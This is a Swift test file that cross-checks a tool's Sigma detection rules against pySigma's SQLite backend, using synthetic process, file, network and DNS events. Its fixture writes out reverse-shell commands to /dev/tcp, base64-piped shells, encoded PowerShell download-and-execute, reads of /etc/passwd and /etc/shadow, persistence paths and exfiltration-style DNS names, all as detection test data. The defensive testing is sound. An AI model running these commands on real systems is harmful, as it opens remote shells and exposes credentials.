import Foundation
import Testing
import PetriTestSupport
import PetriModel
@testable import PetriAnalysis

/// petri's Sigma matching against pySigma's SQLite backend (tests/crosscheck/sigma_crosscheck.py):
/// the same Sigma events in one SQLite table per logsource, each team rule converted to SQL by
/// pySigma and run; petri must select exactly the same rows.
@Suite("Sigma: cross-check with pySigma's SQLite backend")
struct SigmaCrosscheckTests {
    /// A run with many near-variants of what the team's rules look for, hits and misses alike.
    static func variants() -> Report {
        var t = Trace()
        var pid: Int32 = 200
        func spawn(_ path: String, _ argv: [String], parent: Int32 = 100) -> Int32 {
            pid += 1
            t.child(pid, image: (path as NSString).lastPathComponent, parent: parent)
            t.exec(path, argv: argv, pid: pid)
            return pid
        }
        let images = ["/usr/bin/bash", "/bin/sh", "/usr/bin/cat", "/usr/bin/getent", "/tmp/x", "/TMP/x", "/var/tmp/.a/b",
                      "/home/user/.cache/x/y", "/home/user/.hidden/z", "/usr/bin/python3", "/usr/bin/python3.11", "/usr/bin/python",
                      "/usr/bin/uname", "/usr/bin/lsb_release", "/dev/shm/m"]
        let sh = Data("sh -i >& /dev/tcp/198.51.100.3/4444 0>&1".utf8)
        let commands: [[String]] = [
            ["bash", "-c", "cat </dev/tcp/198.51.100.3/4444"], ["sh", "-c", "exec 5<>/DEV/TCP/x.example/80"], ["echo", "/dev/tcpx"],
            ["python3", "-c", "import pty;pty.spawn('/bin/sh')"], ["python3", "-c", "import pty;PTY.SPAWN('/bin/sh')"],
            ["python3", "-c'pty.spawn(1)'"], ["sh", "-c", "echo \(sh.base64EncodedString()) | base64 -d | sh"],
            ["sh", "-c", "echo \(Data("x/bin/sh".utf8).base64EncodedString())"], ["sh", "-c", "echo \(Data("xycurl http://a.example".utf8).base64EncodedString())"],
            ["bash", "-c", Data("bash -i".utf8).base64EncodedString()], ["base64", "-d", "file"],
            ["cat", "/etc/passwd"], ["cat", "/etc/os-release"], ["getent", "passwd"], ["getent", "hosts"], ["getent", "group", "sudo"],
            ["uname", "-a"], ["/???/c?t", "/e??/p?ss??"], ["/bin/c*t", "/etc/shadow"], ["ls", "/b??/"], ["printf", "a*b?c\\d"],
        ]
        for (i, img) in images.enumerated() {
            for (j, argv) in commands.enumerated() where (i + j) % 3 != 1 { _ = spawn(img, argv) }
        }
        // Parents that a filter names, and a program that starts itself again.
        for parent in ["/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/make"] {
            let p = spawn(parent, [(parent as NSString).lastPathComponent])
            _ = spawn("/usr/bin/uname", ["uname", "-r"], parent: p)
            _ = spawn("/usr/bin/cat", ["cat", "/etc/issue"], parent: p)
        }
        let d = spawn("/home/user/.x/d", ["d"])
        _ = spawn("/home/user/.x/d", ["d", "--child"], parent: d)
        _ = spawn("/usr/bin/HOME/.x/d", ["d"], parent: d)
        let s = spawn("/usr/bin/sleep", ["sleep"])
        _ = spawn("/usr/bin/sleep", ["sleep", "1"], parent: s)
        // Wine processes.
        let utf16 = Data("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')".utf16.flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] })
        let winCommands = ["powershell -enc AAA", "powershell /enc AAA", "powershell \u{2013}EncodedCommand AAA", "powershell x-enc AAA",
                           "powershell -NoProfile \(utf16.base64EncodedString())", "powershell -e", "powershell -EN AAA",
                           "powershell \(Data("IEX".utf8).base64EncodedString())"]
        for (i, image) in ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\x\\PWSH.EXE", "C:\\x\\cmd.exe"].enumerated() {
            for (j, c) in winCommands.enumerated() {
                pid += 1
                var n = ProcessNode(pid: pid, ppid: 100, image: "w", path: "/opt/wine/bin/wine64-preloader", argv: [], startNs: 1)
                n.windowsImage = image; n.commandLine = c; n.execs = ["/opt/wine/bin/wine64-preloader\(i)\(j)"]
                t.report.processes.append(n)
            }
        }
        // Files.
        let paths = ["/etc/cron.d/x", "/ETC/CRON.D/x", "/var/spool/cron/crontabs/user", "/etc/anacrontab", "/home/user/.bashrc",
                     "/home/user/.config/autostart/a.desktop", "/home/user/.config/autostart/a.txt", "/etc/xdg/autostart/b.desktop",
                     "/home/user/.bash_history", "/home/user/.zsh_history.bak", "/etc/profile.d/z.sh", "/tmp/a", "/home/user/.profile"]
        for (i, p) in paths.enumerated() {
            for (j, change) in [FileChangeKind.created, .modified, .deleted].enumerated() where (i + j) % 2 == 0 || i % 4 == 0 {
                if change != .deleted { t.write(p) } else { t.sys("unlink", ["path": .string(p)]) }
                t.file(p, change, type: .data)
            }
        }
        for (from, to) in [("/tmp/u.service", "/etc/systemd/system/u.service"), ("/etc/systemd/system/a.service", "/etc/systemd/system/b.service"),
                           ("/tmp/t", "/home/user/.config/systemd/user/t.timer"), ("/tmp/x", "/lib/systemd/system/x.conf"),
                           ("/tmp/y", "/usr/lib/systemd/system/sub/y.service")] {
            t.sys("rename", ["path": .string(from), "new_path": .string(to)])
        }
        // Connections from shells and others, public and private, IPv4 and IPv6.
        for img in ["/usr/bin/bash", "/bin/dash", "/usr/bin/curl", "/usr/bin/BASH"] {
            let p = spawn(img, [(img as NSString).lastPathComponent])
            for dest in ["198.51.100.7:80", "10.0.0.5:4444", "198.51.100.9:23", "198.51.100.9:53", "127.0.0.1:25", "172.20.0.1:22",
                         "172.32.0.1:22", "198.51.100.10:1023", "198.51.100.10:1024"] {
                t.connect(dest, pid: p)
            }
            for dest in ["[2001:db8::1]:25", "[::1]:25", "[fe80::1]:443"] {
                t.sys("connect", ["family": .string("AF_INET6"), "type": .string("SOCK_STREAM"), "address": .string(dest)], pid: p)
            }
            t.sys("sendto", ["family": .string("AF_INET"), "address": .string("198.51.100.53:53")], pid: p)
        }
        for name in ["4a6f686e20446f65206973206865726520616e64206e6f77.exfil.example", "short.example", "MZXW6YTBOI======MZXW6YTBOI.x.example",
                     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example", "a.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example"] {
            t.dns(name)
        }
        return t.report
    }

    static func tableName(_ e: SigmaEvent) -> String { e.category.rawValue + (e.windows ? "_windows" : "_linux") }

    static func tables(for rule: SigmaRule) -> [String] {
        switch rule.product {
        case .any: return [rule.category.rawValue + "_linux", rule.category.rawValue + "_windows"]
        case .linux: return [rule.category.rawValue + "_linux"]
        case .windows: return [rule.category.rawValue + "_windows"]
        }
    }

    @Test func teamRulesSelectTheSameEventsAsPySigma() throws {
        let ready = StaticSupport.run("python3", ["-c", "import sigma.backends.sqlite, sigma.collection"]).status == 0
        guard Prerequisites.require(ready, "python3 modules pysigma and pysigma-backend-sqlite (pip install pysigma pysigma-backend-sqlite)") else { return }
        var reports = [Self.variants()]
        for name in ["demo-sample", "hello-script"] { reports.append(try ReportJSON.decode(Repo.recordedReport(name))) }
        let events = reports.flatMap(SigmaEventBuilder.events)
        var tables: [String: [SigmaEvent]] = [:]
        for c in SigmaCategory.allCases { tables[c.rawValue + "_linux"] = []; tables[c.rawValue + "_windows"] = [] }
        for e in events { tables[Self.tableName(e)]!.append(e) }
        let rules = TeamSigma.result.rules
        let spec: [String: Any] = [
            "tables": tables.mapValues { $0.map(\.values) },
            "rules": rules.map { ["file": $0.file, "tables": Self.tables(for: $0)] },
        ]
        let input = StaticSupport.tempDir("sigma") + "/events-\(UUID().uuidString.prefix(8)).json"
        try JSONSerialization.data(withJSONObject: spec, options: [.sortedKeys]).write(to: URL(fileURLWithPath: input))
        let out = StaticSupport.run("python3", [Repo.path("tests/crosscheck/sigma_crosscheck.py"), input])
        #expect(out.status == 0, "\(out.stderr)")
        let pysigma = try #require(try JSONSerialization.jsonObject(with: Data(out.stdout.utf8)) as? [String: [String: Any]])
        var compared = 0
        for rule in rules {
            let name = (rule.file as NSString).lastPathComponent
            let theirs = try #require(pysigma[rule.file], "\(name): no result")
            #expect(theirs["error"] == nil, "\(name): pySigma: \(theirs["error"] ?? "")")
            var hits = 0, pool = 0
            for table in Self.tables(for: rule) {
                let rows = tables[table]!
                let ours = SigmaEngine.matching(rule, rows)
                let expected = (theirs[table] as? [Int]) ?? []
                let onlyOurs = Set(ours).subtracting(expected).sorted().prefix(5).map { rows[$0].values }
                let onlyTheirs = Set(expected).subtracting(ours).sorted().prefix(5).map { rows[$0].values }
                #expect(ours == expected, "\(name) on \(table): petri \(ours.count) rows, pySigma \(expected.count); only petri: \(onlyOurs), only pySigma: \(onlyTheirs)")
                hits += ours.count; pool += rows.count
                compared += rows.count
            }
            // Not vacuous: every rule both selects and rejects events of its logsource.
            #expect(hits > 0 && hits < pool, "\(name): \(hits) of \(pool) events match; the variants need a hit and a miss")
        }
        print("sigma cross-check: \(rules.count) rules, \(events.count) events, \(compared) rule×event decisions compared")
    }
}
